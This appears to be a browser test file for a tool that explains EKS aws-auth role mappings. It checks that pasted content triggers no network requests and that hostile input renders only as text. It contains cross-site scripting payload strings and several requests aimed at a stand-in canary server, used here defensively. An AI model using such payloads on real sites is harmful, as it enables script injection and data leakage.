/** What was pasted stays in the page: nothing is loaded, sent or run that is not in the file, whatever a document says. */
import { SAMPLE } from '../../pure/access/explain/sample';
import { canary, open, paste, withPage } from './browser';
import { STATES } from './states';

const VIOLATIONS = `window.refused = []; addEventListener('securitypolicyviolation', ({ effectiveDirective }) => window.refused.push(effectiveDirective));`;

test.concurrent.each(Object.entries(STATES))(
  '%s: only the file itself is asked for, and the policy refuses nothing',
  async (_, enter) => {
    const { page, troubles, close } = await open();
    const finished: string[] = [];
    page.on('requestfinished', (request) => finished.push(request.url()));
    await page.addInitScript(VIOLATIONS);
    await page.reload();
    await enter(page);
    expect(await page.evaluate('window.refused')).toEqual([]);
    expect(finished.filter((url) => !url.startsWith('file:') && !url.startsWith('data:'))).toEqual([]);
    expect(troubles).toEqual([]);
    await close();
  },
);

test('what another script would try is refused, and nobody hears of it', async () => {
  const server = await canary();
  const { page, close } = await open({}, `${server.url}/page`);
  try {
    await page.evaluate(VIOLATIONS);
    const tried = (code: string): Promise<unknown> =>
      page.evaluate(`(async () => { try { ${code} } catch {} })()`);
    await tried(`await fetch('${server.url}/fetch')`);
    await tried(`navigator.sendBeacon('${server.url}/beacon', 'x')`);
    await tried(`const image = new Image(); image.src = '${server.url}/image'; document.body.append(image)`);
    await tried(
      `const style = document.createElement('link'); style.rel = 'stylesheet'; style.href = '${server.url}/style'; document.head.append(style)`,
    );
    await tried(
      `const style = document.createElement('style'); style.textContent = 'body { display: none }'; document.head.append(style)`,
    );
    await tried(`document.body.setAttribute('style', 'background: url(${server.url}/background)')`);
    await tried(
      `const form = document.createElement('form'); form.action = '${server.url}/form'; document.body.append(form); form.submit()`,
    );
    await tried(
      `const base = document.createElement('base'); base.href = '${server.url}/base/'; document.head.append(base)`,
    );
    await tried(
      `const frame = document.createElement('iframe'); frame.src = '${server.url}/frame'; document.body.append(frame)`,
    );
    await tried(`new WebSocket('${server.url.replace('http', 'ws')}/socket')`);
    await tried(`new Worker('${server.url}/worker')`);
    await tried(
      `const script = document.createElement('script'); script.src = '${server.url}/script'; document.body.append(script)`,
    );
    const isMarkup = await page.evaluate(
      `(() => { try { document.body.insertAdjacentHTML('beforeend', '<img>'); return true; } catch { return false; } })()`,
    );
    expect(isMarkup).toBe(false);
    // What the browser would still send is sent before this is.
    await page.evaluate('new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve)))');
    expect(server.heard).toEqual(['GET /page']);
    const refused = new Set(await page.evaluate<readonly string[]>('window.refused'));
    for (const directive of [
      'connect-src',
      'img-src',
      'style-src-elem',
      'style-src-attr',
      'form-action',
      'base-uri',
      'frame-src',
    ])
      expect([...refused]).toContain(directive);
  } finally {
    await close();
    await server.close();
  }
});

test('the canary hears', async () => {
  const server = await canary();
  const { page, close } = await open({ bypassCSP: true }, `${server.url}/page`);
  await page.evaluate(`fetch('${server.url}/fetch')`);
  expect(server.heard).toContain('GET /fetch');
  await close();
  await server.close();
});

test('a hostile document is text everywhere', async () => {
  const server = await canary();
  const evil = [
    `<img src=${server.url}/img onerror=alert(1)>`,
    `</script><script>fetch('${server.url}/script')</script>`,
    `</textarea><iframe src=${server.url}/frame>`,
    `javascript:alert(1)`,
    `"><a href=${server.url}/link>x</a>`,
    `\u202e\u200b`,
  ];
  const entries = evil
    .map((text) => JSON.stringify(text))
    .map((text) => `    - rolearn: ${text}\n      username: ${text}\n      groups: [${text}]\n`);
  const good = evil.map(
    (text, index) =>
      `    - rolearn: arn:aws:iam::111122223333:role/r${index}\n      username: ${JSON.stringify(text)}\n      groups: [${JSON.stringify(text)}]\n`,
  );
  const text = `${SAMPLE.split('  mapUsers')[0] ?? ''}${entries.join('')}${good.join('')}`;
  try {
    await withPage(async (page) => {
      page.on('dialog', () => server.heard.length === 0 && expect('a dialog').toBe('not there'));
      await paste(page, text);
      for (const tab of ['Problems', 'Who gets in', 'Ask', 'Move', 'Edit']) {
        await page.getByRole('tab', { name: tab }).click();
        if (tab === 'Ask') {
          await page.getByLabel('Who is refused').fill(evil[0] ?? '');
          await page.getByRole('button', { name: 'Ask' }).click();
          await page.getByLabel('Who is refused').fill('role/r1');
          await page.getByRole('button', { name: 'Ask' }).click();
          await page.locator('.verdict', { hasText: 'YES' }).waitFor();
        }
      }
      expect(
        await page.evaluate(
          "document.querySelectorAll('main img, main iframe, main script, main a[href^=http]').length",
        ),
      ).toBe(0);
      expect(await page.locator('#listing').innerText()).toContain('<img src=');
      // What turns the direction of text, or has no width, is written out.
      expect(await page.locator('#listing').textContent()).not.toMatch(/[\u202e\u200b]/);
    });
    expect(server.heard).toEqual([]);
  } finally {
    await server.close();
  }
});
